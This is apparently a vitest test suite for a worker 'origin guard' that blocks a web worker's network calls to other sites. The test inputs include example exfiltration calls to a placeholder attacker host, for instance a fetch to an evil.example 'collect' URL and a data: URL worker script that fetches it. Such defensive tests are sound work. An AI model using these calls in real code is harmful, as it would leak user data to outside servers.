import { describe, expect, it } from 'vitest';
import { installOriginGuard, OtherOriginRefused, refusal } from '../../src/engine/origin-guard';

const location = { href: 'https://railyard.example/tools/assets/search.worker-abc.js', origin: 'https://railyard.example' };

/** A stand-in worker scope that records what reached the network APIs. */
function workerScope() {
  const reached: string[] = [];
  class Recorder {
    constructor(url: string) {
      reached.push(String(url));
    }
  }
  class XMLHttpRequest {
    open(_method: string, url: string) {
      reached.push(url);
    }
  }
  const scope: Record<string, unknown> & { location: typeof location } = {
    location,
    fetch: async (input: unknown) => {
      reached.push(String(input));
      return 'response';
    },
    XMLHttpRequest,
    WebSocket: class extends Recorder {},
    EventSource: class extends Recorder {},
    Worker: class extends Recorder {},
    importScripts: (...urls: string[]) => reached.push(...urls),
  };
  installOriginGuard(scope);
  return { scope: scope as Record<string, any>, reached };
}

describe('worker origin guard', () => {
  it('lets a worker fetch its own site, blob: and data: URLs', async () => {
    const { scope, reached } = workerScope();
    expect(await scope.fetch('kernel-1.wasm')).toBe('response');
    await scope.fetch('https://railyard.example/schema/result.schema.json');
    await scope.fetch('blob:https://railyard.example/1b2c');
    await scope.fetch('data:application/json,{}');
    expect(reached).toEqual([
      'kernel-1.wasm',
      'https://railyard.example/schema/result.schema.json',
      'blob:https://railyard.example/1b2c',
      'data:application/json,{}',
    ]);
  });

  it('refuses a fetch to another origin with a clear error, before any request', async () => {
    const { scope, reached } = workerScope();
    await expect(scope.fetch('https://evil.example/collect?q=quote')).rejects.toThrow(OtherOriginRefused);
    await expect(scope.fetch({ url: 'http://railyard.example/' })).rejects.toThrow(/may contact only this site \(https:\/\/railyard\.example\); refused http:\/\/railyard\.example\//);
    expect(reached).toEqual([]);
  });

  it('refuses XMLHttpRequest, WebSocket, EventSource and importScripts to another origin', () => {
    const { scope, reached } = workerScope();
    expect(() => new scope.XMLHttpRequest().open('POST', 'https://evil.example/')).toThrow(OtherOriginRefused);
    expect(() => new scope.WebSocket('wss://evil.example/')).toThrow(OtherOriginRefused);
    expect(() => new scope.EventSource('//evil.example/stream')).toThrow(OtherOriginRefused);
    expect(() => scope.importScripts('ok.js', 'https://cdn.example/lib.js')).toThrow(OtherOriginRefused);
    expect(reached).toEqual([]);
    new scope.XMLHttpRequest().open('GET', '/tools/index.html');
    expect(reached).toEqual(['/tools/index.html']);
  });

  it('starts nested workers only from same-origin scripts, which load the guard themselves', () => {
    const { scope, reached } = workerScope();
    expect(() => new scope.Worker('https://evil.example/w.js')).toThrow(OtherOriginRefused);
    expect(() => new scope.Worker('blob:https://railyard.example/1b2c')).toThrow(OtherOriginRefused);
    expect(() => new scope.Worker('data:text/javascript,fetch("https://evil.example")')).toThrow(OtherOriginRefused);
    new scope.Worker('export.worker-1.js');
    expect(reached).toEqual(['export.worker-1.js']);
  });

  it('cannot be undone by code in the worker', async () => {
    const { scope } = workerScope();
    expect(() => {
      scope.fetch = async () => 'unguarded';
    }).toThrow(TypeError);
    expect(() => delete scope.fetch).toThrow(TypeError);
    await expect(scope.fetch('https://evil.example/')).rejects.toThrow(OtherOriginRefused);
  });

  it('says nothing about text that is not a URL (the API reports that)', () => {
    expect(refusal('http://[bad', location)).toBeNull();
  });
});
